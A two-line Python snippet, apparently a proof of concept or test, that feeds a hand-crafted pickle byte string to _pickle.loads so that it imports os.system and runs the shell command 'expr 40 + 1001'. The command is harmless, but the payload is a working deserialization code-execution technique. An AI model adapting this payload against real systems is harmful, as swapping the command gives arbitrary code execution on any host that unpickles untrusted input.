import _pickle
_pickle.loads(b"cos\nsystem\n(S'expr 40 + 1001'\ntR.")
